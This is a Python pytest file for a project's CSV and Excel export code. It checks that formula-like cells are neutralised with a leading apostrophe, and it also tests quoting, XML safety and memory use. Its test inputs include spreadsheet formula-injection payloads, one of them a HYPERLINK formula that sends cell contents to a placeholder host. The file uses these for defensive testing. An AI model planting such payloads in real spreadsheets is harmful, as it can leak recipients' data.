"""Files for spreadsheets: row by row, inert, every cell as it was."""

import csv
import io
import tracemalloc
import zipfile

import openpyxl
import pytest
from defusedxml import ElementTree
from hypothesis import given
from hypothesis import strategies as st

from tickets import spreadsheets
from tickets.formulas import inert, without_guard
from tickets.spreadsheets import csv_pieces, xlsx_pieces

FORMULAS = [
    '=HYPERLINK("http://example.com/?d="&A1,"clic")',
    "+1+1",
    "-2+3 (José)",
    "@SUM(1)",
    "\t=1+1",
    "\r=1",
    "\n=1",
]


def csv_rows(header, rows, separator=";"):
    content = b"".join(csv_pieces(header, rows, separator=separator)).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content, newline=""), delimiter=separator))


def workbook(header, rows, title="Personas"):
    content = b"".join(xlsx_pieces(header, rows, title=title, widths=[10] * len(header)))
    return openpyxl.load_workbook(io.BytesIO(content))


def xlsx_rows(header, rows):
    return [[cell or "" for cell in row] for row in workbook(header, rows).active.iter_rows(values_only=True)]


@pytest.mark.parametrize(
    "text", [*FORMULAS, "  =1+1", "\u00a0=1+1", " \n\n=1+1", "＝1+1", "+573001234567", "'=1", "''@x"]
)
def test_what_would_be_calculated_gets_an_apostrophe(text):
    assert inert(text) == f"'{text}"
    assert without_guard(inert(text)) == text


@pytest.mark.parametrize("text", ["", " ", "Ana", "ana@example.com", "3 = tres", "'Ana", "500 -"])
def test_what_is_text_stays_as_it_is(text):
    assert inert(text) == text


def test_a_csv_begins_with_its_mark_and_quotes_what_it_must():
    content = b"".join(csv_pieces(["Nombre", "Nota"], [["José; Ñandú", 'dice "sí"\nhoy']], separator=";"))
    assert content == '\ufeffNombre;Nota\r\n"José; Ñandú";"dice ""sí""\nhoy"\r\n'.encode()


def test_no_cell_of_a_csv_begins_like_a_formula():
    assert csv_rows(["=x"], [[text] for text in FORMULAS]) == [["'=x"], *[[f"'{text}"] for text in FORMULAS]]


def test_every_cell_of_an_excel_file_is_text_and_phones_keep_their_plus():
    sheet = workbook(["Dirección"], [["+573001234567"], ["=1+1"], ["007"], ["1e5"]]).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == ["+573001234567", "'=1+1", "007", "1e5"]
    assert {(cell.data_type, cell.number_format) for cell in cells} == {("s", "@")}


def test_only_a_whole_number_passes_for_a_phone():
    assert xlsx_rows(["a"], [["+1+1"], ["+57 300"], ["+"], ["+٣"]])[1:] == [["'+1+1"], ["'+57 300"], ["'+"], ["'+٣"]]


def test_what_xml_cannot_hold_is_left_out_and_the_rest_stays():
    assert xlsx_rows(["a"], [["a\x00b\x1fc\ufffe <&> “ñ” 🎉 \ud800"]])[1] == ["abc <&> “ñ” 🎉 "]


def test_without_rows_there_is_still_a_header():
    assert xlsx_rows(["Nombre"], []) == [["Nombre"]]
    assert csv_rows(["Nombre"], []) == [["Nombre"]]


def test_more_rows_than_a_sheet_holds_go_on_in_the_next(monkeypatch):
    monkeypatch.setattr(spreadsheets, "MOST_ROWS", 2)
    book = workbook(["n"], [[str(n)] for n in range(5)], title="A/B [x] de una campaña con un nombre largo")
    assert book.sheetnames == [
        "A B  x  de una campaña co",
        "A B  x  de una campaña co 2",
        "A B  x  de una campaña co 3",
    ]
    rows = [[row[0] for row in sheet.iter_rows(values_only=True)] for sheet in book]
    assert rows == [["n", "0", "1"], ["n", "2", "3"], ["n", "4"]]


def test_every_part_of_the_file_is_sound_xml():
    content = b"".join(xlsx_pieces(["a"], [["&"]], title="<x>", widths=[9]))
    archive = zipfile.ZipFile(io.BytesIO(content))
    assert archive.testzip() is None
    for name in archive.namelist():
        ElementTree.fromstring(archive.read(name))


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_a_csv_comes_back_as_it_went(cells):
    written = [cell.encode("utf-8", "replace").decode() for cell in cells]
    assert csv_rows(["x"] * len(cells), [cells])[1] == [inert(cell) for cell in written]


@pytest.mark.parametrize("write", [
    lambda rows: csv_pieces(["a", "b"], rows, separator=";"),
    lambda rows: xlsx_pieces(["a", "b"], rows, title="x", widths=[9, 9]),
])  # fmt: skip
def test_a_long_file_takes_no_more_memory_than_a_short_one(write):
    def peak(count):
        tracemalloc.start()
        size = sum(len(piece) for piece in write(["Persona de prueba", f"{n:09d}"] for n in range(count)))
        _now, highest = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return size, highest

    (_small, little), (large, much) = peak(2_000), peak(40_000)
    assert large > 90_000
    assert much < little + 600_000
